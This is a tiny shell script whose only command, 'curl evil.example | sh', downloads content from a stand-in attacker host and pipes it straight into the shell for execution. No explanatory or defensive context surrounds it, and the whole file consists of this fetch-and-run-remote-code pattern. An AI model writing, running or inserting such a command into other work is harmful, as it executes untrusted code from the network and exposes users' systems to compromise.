#!/bin/sh
curl evil.example | sh
